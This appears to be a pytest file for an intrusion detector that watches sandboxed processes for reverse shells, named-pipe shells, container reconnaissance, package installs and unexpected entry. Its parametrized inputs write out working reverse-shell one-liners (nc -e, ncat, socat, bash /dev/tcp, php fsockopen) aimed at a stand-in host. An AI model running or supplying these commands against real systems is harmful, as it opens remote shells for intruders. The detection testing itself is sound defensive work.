"""How somebody gets in, looks around and takes the wheel."""

from __future__ import annotations

from dataclasses import replace

import pytest

from daemon.events import Event, EventsLost, File, FileKind, SensorFailed, UnannouncedProcess
from detectors.process.entry import Entry
from detectors.process.fifo_shell import FifoShell
from detectors.process.package_manager import PackageManager
from detectors.process.reverse_shell import ReverseShell
from detectors.process.sensor_health import SensorHealth
from detectors.process.survey import Survey
from tests.detectors.making import (
    EACCES,
    PLAIN,
    STRICT,
    connected,
    enrolled,
    executed,
    fifo_made,
    header,
    opened,
    told,
)

EINPROGRESS, ECONNREFUSED, ENOENT = -115, -111, -2


# --- reverse shells (proc-revshell-nc)


@pytest.mark.parametrize("descriptors", [{0, 1, 2}, {0, 1}, {0}, {1, 2}])
def test_a_program_on_a_connection_is_high(descriptors: set[int]) -> None:
    event = executed("/bin/sh", path="/bin/busybox", inet_stdio=frozenset(descriptors))
    assert told(ReverseShell(), event) == [("reverse-shell", "high")]


def test_output_alone_is_medium() -> None:
    event = executed("tar", "c", "/", path="/bin/tar", inet_stdio=frozenset({1}))
    assert told(ReverseShell(), event) == [("reverse-shell", "medium")]


def test_a_program_on_a_terminal_or_pipe_is_in_order() -> None:
    assert told(ReverseShell(), executed("/bin/sh"), executed("curl", "-s", "http://127.0.0.1:8099/")) == []


@pytest.mark.parametrize(
    "argv",
    [
        ("nc", "-w", "3", "10.66.7.7", "4444", "-e", "/bin/sh"),
        ("busybox", "nc", "10.66.7.7", "4444", "-e", "sh"),
        ("/usr/bin/ncat", "-nve", "/bin/sh", "10.66.7.7", "4444"),
        ("ncat", "10.66.7.7", "4444", "--sh-exec", "sh"),
        ("socat", "TCP:10.66.7.7:4444", "EXEC:/bin/sh,pty"),
        ("bash", "-c", "bash -i >& /dev/tcp/10.66.7.7/4444 0>&1"),
        ("bash", "-c", "sh 0</dev/tcp/10.66.7.7/4444"),
        ("python3", "-c", "import socket,os;s=socket.socket();s.connect(a);os.dup2(s.fileno(),0)"),
        ("php", "-r", "$s=fsockopen('10.66.7.7',4444);exec('sh <&3 >&3');"),
    ],
)
def test_a_command_that_would_be_a_reverse_shell_is_high(argv: tuple[str, ...]) -> None:
    """Where there is no network the connection never stands."""
    assert told(ReverseShell(), executed(*argv, path="/bin/x"), sandbox=STRICT) == [
        ("reverse-shell-command", "high")
    ]


@pytest.mark.parametrize(
    "argv",
    [
        ("nc", "-z", "127.0.0.1", "8099"),
        ("nc", "-w", "3", "example.org", "80"),
        ("bash", "-c", "echo > /dev/tcp/127.0.0.1/5432"),
        ("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/5432"),
        ("socat", "-", "TCP:127.0.0.1:80"),
        ("sed", "-e", "s/a/b/", "x"),
        ("grep", "-e", "nc", "x"),
        ("python3", "-c", "import socket;socket.create_connection(('127.0.0.1',80))"),
        ("python3", "-m", "http.server", "8099"),
        (),
    ],
)
def test_commands_that_only_connect_are_in_order(argv: tuple[str, ...]) -> None:
    assert told(ReverseShell(), executed(*argv, path="/bin/x")) == []


def _fifo(path: str = "/tmp/f", *, write: bool = True, **facts: int) -> Event:
    return opened(path, file=File(path=path, kind=FileKind.FIFO, inode=3), write=write, **facts)


@pytest.mark.parametrize("result", [0, EINPROGRESS])
def test_a_named_pipe_tied_to_a_connection_is_high(result: int) -> None:
    """`cat f | sh -i 2>&1 | nc 10.66.7.7 4444 > f`: the last one opens f and connects."""
    events = (_fifo(pid=12, ppid=1), connected("10.66.7.7", 4444, result=result, pid=12, ppid=1, at_s=0.1))
    assert told(FifoShell(), *events) == [("fifo-shell", "high")]


def test_the_other_way_round_is_high_too() -> None:
    """`nc 10.66.7.7 4444 < f | sh > f 2>&1`: they have one parent."""
    events = (_fifo(pid=13, ppid=1), connected("10.66.7.7", 4444, pid=12, ppid=1, at_s=0.1))
    assert told(FifoShell(), *events) == [("fifo-shell", "high")]


@pytest.mark.parametrize("maker", [{"pid": 11, "ppid": 1}, {"pid": 1, "ppid": 0}])
def test_a_named_pipe_that_was_only_made_is_medium(maker: dict[str, int]) -> None:
    events = (fifo_made("/tmp/f", **maker), connected("10.66.7.7", 4444, pid=12, ppid=1, at_s=0.1))
    assert told(FifoShell(), *events) == [("fifo-shell", "medium")]
    assert told(FifoShell(), events[0], _fifo(pid=12, ppid=1), events[1]) == [("fifo-shell", "high")]


@pytest.mark.parametrize(
    "events",
    [
        (fifo_made("/tmp/f", pid=11, ppid=1), connected("10.66.7.7", 443, pid=30, ppid=3)),
        (fifo_made("/tmp/f", pid=11, ppid=1), connected("10.66.7.7", 443, pid=1, ppid=0)),
        (_fifo(pid=12, ppid=1), connected("127.0.0.1", 8099, pid=12, ppid=1)),
        (_fifo(pid=12, ppid=1), connected("10.66.7.7", 4444, pid=20, ppid=2)),
        (_fifo(pid=12, ppid=1), connected("10.66.7.7", 4444, pid=12, ppid=1, at_s=60)),
        (_fifo(pid=12, ppid=1), connected("10.66.7.7", 4444, pid=12, ppid=1, result=ECONNREFUSED)),
        (_fifo(pid=12, ppid=1), connected("", 0, family=1, pid=12, ppid=1)),
        (_fifo(pid=12, ppid=1, write=False), connected("10.66.7.7", 4444, pid=12, ppid=1)),
        (opened("/tmp/f", write=True, pid=12, ppid=1), connected("10.66.7.7", 443, pid=12, ppid=1)),
    ],
)
def test_pipes_and_connections_that_have_nothing_to_do_with_each_other(events: tuple[Event, ...]) -> None:
    assert told(FifoShell(), *events) == []


# --- a survey (proc-recon-sh)

SURVEYED = (
    *("/.dockerenv", "/proc/1/cgroup", "/proc/77/mountinfo", "/proc/1/status", "/proc/77/uid_map"),
    *("/proc/77/attr/current", "/proc/version", "/proc/cmdline", "/proc/modules"),
)


def test_a_survey_is_low_from_the_fifth_thing_on() -> None:
    events = [opened(path, at_s=number / 100) for number, path in enumerate(SURVEYED)]
    assert told(Survey(), *events) == [("container-survey", "low")] * 5


def test_what_is_refused_or_missing_counts() -> None:
    results = (ENOENT, 3, EACCES, 3, EACCES)
    events = [opened(path, result=result) for path, result in zip(SURVEYED, results, strict=False)]
    assert told(Survey(), *events) == [("container-survey", "low")]


def test_other_ways_of_naming_it_count_once() -> None:
    paths = ("/proc/self/cgroup", "/proc/1/cgroup", "/proc/9/task/9/cgroup", "/proc/self/root/proc/1/cgroup")
    assert told(Survey(), *(opened(path) for path in paths * 5)) == []


@pytest.mark.parametrize(
    "paths",
    [
        ("/proc/filesystems", "/proc/self/maps", "/proc/meminfo", "/proc/self/fd", "/proc/77/cmdline"),
        ("/proc/self/cgroup", "/proc/self/mountinfo", "/proc/cpuinfo", "/proc/stat", "/proc/self/status"),
        ("/usr/lib/version", "/srv/modules", "/home/u/mounts", "/srv/cgroup", "/tmp/current", "/x/cmdline"),
    ],
)
def test_what_ordinary_programs_read_is_in_order(paths: tuple[str, ...]) -> None:
    """node, pandas and tmux; a Java machine that looks for its limits; files that are only called alike."""
    assert told(Survey(), *(opened(path) for path in paths * 3)) == []


def test_reading_one_thing_a_minute_is_in_order() -> None:
    assert told(Survey(), *(opened(path, at_s=number * 60) for number, path in enumerate(SURVEYED))) == []


# --- packages (proc-pkg-manager)


@pytest.mark.parametrize(
    "event",
    [
        executed("apt-get", "install", "-y", "nmap", path="/usr/bin/apt-get"),
        executed("x", "-i", "/tmp/p.deb", path="/usr/bin/dpkg"),
        executed("apk", "add", "curl", path="/sbin/apk"),
        opened("/var/lib/dpkg/status-new", write=True),
        opened("/var/lib/dpkg/lock", write=True, result=EACCES),
    ],
)
def test_a_package_manager_is_low(event: Event) -> None:
    assert told(PackageManager(), event) == [("package-manager", "low")]


@pytest.mark.parametrize(
    "event",
    [
        executed("pip", "install", "six", path="/tmp/v/bin/pip"),
        executed("dpkg-deb", "-b", "/tmp/p", path="/usr/bin/dpkg-deb"),
        opened("/var/lib/dpkg/status"),
        opened("/srv/var/lib/dpkg/status", write=True),
    ],
)
def test_reading_the_database_or_building_a_package_is_in_order(event: Event) -> None:
    assert told(PackageManager(), event) == []


# --- the watch itself


def test_lost_events_are_high() -> None:
    assert told(SensorHealth(), EventsLost(**header(), count=5, reason="bulk ring full")) == [
        ("events-lost", "high")
    ]


@pytest.mark.parametrize("restarted", [True, False])
def test_a_sensor_that_ended_is_critical_even_if_it_came_back(restarted: bool) -> None:
    event = SensorFailed(**header(), sensor="ebpf", reason="ENOMEM", restarted=restarted)
    assert told(SensorHealth(), event) == [("sensor-failed", "critical")]


# --- a second way in


def test_the_first_entry_is_the_sandboxs_own() -> None:
    assert told(Entry(), enrolled(), sandbox=STRICT) == []


def test_a_second_entry_where_none_is_allowed_is_high() -> None:
    assert told(Entry(), enrolled(), enrolled(pid=200), sandbox=STRICT) == [("second-entry", "high")]


def test_a_second_entry_into_somebody_elses_container_is_low() -> None:
    assert told(Entry(), enrolled(), enrolled(pid=200), sandbox=PLAIN) == [("second-entry", "low")]


def test_the_daemons_own_exec_is_in_order() -> None:
    allowed = replace(STRICT, exec_allowed=True)
    assert told(Entry(), enrolled(), enrolled(pid=200), sandbox=allowed) == []


def test_processes_that_were_there_before_the_sensor_are_in_order_but_later_ones_are_not() -> None:
    before = [enrolled(pid=pid, already_running=True) for pid in (1, 2, 3)]
    assert told(Entry(), *before, sandbox=STRICT) == []
    assert told(Entry(), *before, enrolled(pid=9), sandbox=STRICT) == [("second-entry", "high")]


def test_a_new_sandbox_of_the_same_id_begins_anew() -> None:
    detector = Entry()
    first = enrolled()
    assert told(detector, first, sandbox=STRICT) == []
    detector.forget(first.sandbox)
    assert told(detector, first, sandbox=STRICT) == []


def test_a_process_that_nothing_announced_is_high_and_medium_after_a_loss() -> None:
    stranger = UnannouncedProcess(**header(at_s=10))
    lost = EventsLost(**header(), count=5, reason="ring full")
    assert told(Entry(), stranger) == [("unannounced-process", "high")]
    assert told(Entry(), lost, stranger) == [("unannounced-process", "medium")]
    assert told(Entry(), lost, UnannouncedProcess(**header(at_s=100))) == [("unannounced-process", "high")]
